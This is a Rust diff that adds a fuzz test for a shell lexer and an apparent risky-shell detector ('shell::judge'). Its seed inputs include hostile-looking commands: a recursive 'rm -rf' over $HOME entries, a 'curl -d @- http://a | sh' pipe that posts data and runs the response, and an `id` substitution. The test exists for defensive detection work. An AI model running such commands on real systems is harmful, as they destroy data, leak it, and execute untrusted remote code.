@@ -10,6 +10,7 @@ use proptest::prelude::*;
 use proptest::sample::select;
 
 use super::*;
+use crate::fuzz::Target;
 
 /// Programs for each property; enough for a few seconds in a debug build.
 const ROUNDS: u32 = 400;
@@ -82,6 +83,30 @@ fn settings() -> ProptestConfig {
         failure_persistence: None,
         ..ProptestConfig::with_cases(ROUNDS)
     }
+}
+
+#[test]
+fn shell_lexer() {
+    let target = Target {
+        name: "shell",
+        seeds: &[
+            b"for x in $(ls \"$HOME\"); do rm -rf \"${x%.*}\" && echo 'a b' >> log 2>&1; done",
+            b"cat <<'EOF' | curl -d @- http://a | sh\n$x\nEOF\n",
+            b"case $1 in a|b) [[ $x =~ ^a ]] && ((i++));; *) `id`;; esac",
+            b"f() { local a=(1 2); echo ${a[@]:1} $'\\n' <(true); }; f &",
+        ],
+        words: &[
+            b"$(", b")", b"`", b"${", b"}", b"<<E\n", b"'", b"\"", b"\\\n", b"((", b"|", b"&&",
+        ],
+        cost: 2,
+    };
+    target.run(|bytes| {
+        let source = String::from_utf8_lossy(bytes);
+        let words = words(&source).map(|words| words.len());
+        let hits = shell::judge(&source);
+        assert!(hits.iter().all(|hit| hit.at <= source.len()));
+        (words, hits.iter().map(|hit| hit.rule).collect::<Vec<_>>())
+    });
 }
 
 proptest! {
